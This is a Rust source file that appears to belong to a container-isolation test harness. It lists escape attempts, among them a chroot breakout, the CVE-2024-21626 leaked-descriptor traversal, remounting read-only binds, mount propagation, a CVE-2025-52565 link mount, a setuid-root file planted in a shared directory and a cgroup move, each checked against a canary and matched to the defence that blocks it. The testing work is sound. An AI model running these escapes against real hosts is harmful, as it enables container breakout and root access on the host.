//! Files and control groups of the host.

use std::fs;
use std::io;
use std::os::unix::fs::{FileTypeExt, PermissionsExt, chroot};
use std::path::{Path, PathBuf};

use runtime::Namespace;

use super::kernel::{call, first, mount, mount_point, open_to_write, own_mounts, text};
use crate::attack::{Attack, Proof, Without};
use crate::canary::{DROP, DROP_INSIDE, NAME, OPEN_SECRET, SHARED, SHARED_INSIDE, SHARED_TWICE};
use crate::weakened::Part;

pub const ATTACKS: &[Attack] = &[
    Attack {
        name: "chroot",
        class: "chroot",
        aim: "climb out of the root directory",
        attempt: |_| {
            let own = mount_point(&format!("chroot-{}", std::process::id()))?;
            // The working directory stays outside of the new root.
            chroot(&own)?;
            let up = "../".repeat(20);
            let paths = [format!("{up}{OPEN_SECRET}"), format!("/..{OPEN_SECRET}")];
            first(paths, fs::read_to_string)
        },
        proof: Proof::Secret,
        stopped_by: &[Part::Detached],
        without_users: Without::Prevented,
    },
    Attack {
        name: "inherited descriptor",
        class: "CVE-2024-21626",
        aim: "find a directory of the host among the descriptors",
        attempt: |_| {
            let up = "../".repeat(20);
            let descriptors =
                (0..1024).map(|number| format!("/proc/self/fd/{number}/{up}{OPEN_SECRET}"));
            let directory = std::iter::once(format!("{up}{OPEN_SECRET}"));
            first(directory.chain(descriptors), fs::read_to_string)
        },
        proof: Proof::Secret,
        stopped_by: &[Part::Streams],
        without_users: Without::Prevented,
    },
    Attack {
        name: "read-only bind",
        class: "bind mounts",
        aim: "change a directory that is shown read-only",
        attempt: |_| write_shared(),
        proof: Proof::Answer,
        stopped_by: &[Part::ReadOnlyBinds],
        without_users: Without::Prevented,
    },
    Attack {
        name: "read-only bind made writable",
        class: "MS_REMOUNT",
        aim: "the same after a change of the mount",
        attempt: |_| {
            own_mounts()?;
            let flags = libc::MS_REMOUNT | libc::MS_BIND;
            let _ = call!(SYS_mount, c"none", &text(shared()), 0, flags, 0);
            write_shared()
        },
        proof: Proof::Answer,
        stopped_by: &[Part::Users],
        without_users: Without::Open("CAP_SYS_ADMIN makes mounts writable"),
    },
    Attack {
        name: "mount on the host",
        class: "mount propagation",
        aim: "mount over the files of the host",
        attempt: |_| {
            let target = format!("{}/mounted", shared());
            call!(SYS_mount, c"none", &text(&target), c"tmpfs", 0, 0)?;
            let inside = Path::new(SHARED_TWICE).exists();
            let second = if inside { SHARED_TWICE } else { SHARED };
            // A mount that another bind of the directory shows, the host's shows, too.
            fs::write(format!("{target}/x"), "")?;
            let shown = fs::read_to_string(format!("{second}/mounted/x"));
            let _ = call!(SYS_umount2, &text(&target), 0);
            shown.map(|_| "it is seen elsewhere".to_owned())
        },
        proof: Proof::Answer,
        stopped_by: &[Part::Slave, Part::Users],
        without_users: Without::Prevented,
    },
    Attack {
        name: "mount over a link",
        class: "CVE-2025-52565",
        aim: "have a device mounted where the container's link says",
        attempt: |_| {
            if !Path::new("/escape").exists() {
                return Ok("nothing is mounted for the host itself".to_owned());
            }
            let target = fs::metadata("/escape/target")?;
            if target.file_type().is_char_device() {
                return Ok("it is a device".to_owned());
            }
            Err(io::Error::other("it is the file that it was"))
        },
        proof: Proof::Answer,
        stopped_by: &[Part::Fresh],
        without_users: Without::Prevented,
    },
    Attack {
        name: "setuid file in a shared directory",
        class: "bind mounts",
        aim: "leave a program that makes every user of the host its root",
        attempt: |_| {
            let inside = Path::new(DROP_INSIDE).exists();
            let path = Path::new(if inside { DROP_INSIDE } else { DROP }).join("setuid");
            let _ = fs::remove_file(&path);
            fs::write(&path, "")?;
            fs::set_permissions(&path, fs::Permissions::from_mode(0o4755))?;
            // Where users are the container's own, the file is of one of them.
            let map = fs::read_to_string("/proc/self/uid_map")?;
            match map.split_whitespace().nth(1) {
                Some("0") => Ok("it belongs to the host's root".to_owned()),
                first => Err(io::Error::other(format!(
                    "it belongs to user {first:?} of the host"
                ))),
            }
        },
        proof: Proof::Answer,
        stopped_by: &[Part::Users],
        without_users: Without::Open(
            "files that root makes in a writable bind are the host's root's",
        ),
    },
    Attack {
        name: "cgroup",
        class: "cgroups",
        aim: "move a process out of the container's group, and of its limits",
        attempt: |_| {
            own_mounts()?;
            let fresh = mount("cgroup2", "cgroup2");
            let roots = ["/sys/fs/cgroup", "/sys/fs/cgroup/.."].map(str::to_owned);
            first(roots.into_iter().chain(fresh), |root| {
                let group = find_group(Path::new(&root), 6)
                    .ok_or_else(|| io::Error::other("groups of the host cannot be seen"))?;
                fs::write(group.join("cgroup.procs"), "0")?;
                fs::read_to_string("/proc/self/cgroup")
            })
        },
        proof: Proof::Answer,
        stopped_by: &[Part::Own(Namespace::Cgroup), Part::Users],
        without_users: Without::Prevented,
    },
];

/// The shared directory, inside or on the host itself.
fn shared() -> &'static str {
    if Path::new(SHARED_INSIDE).exists() {
        SHARED_INSIDE
    } else {
        SHARED
    }
}

fn write_shared() -> io::Result<String> {
    open_to_write(format!("{}/file", shared()))?;
    Ok("opened a file for writing".to_owned())
}

/// The canary's group below this one.
fn find_group(root: &Path, levels: u32) -> Option<PathBuf> {
    let group = root.join(NAME);
    if group.exists() {
        return Some(group);
    }
    let below = levels.checked_sub(1)?;
    let entries = fs::read_dir(root).ok()?.flatten();
    let directories = entries.filter(|entry| entry.file_type().is_ok_and(|kind| kind.is_dir()));
    directories
        .map(|entry| entry.path())
        .find_map(|path| find_group(&path, below))
}
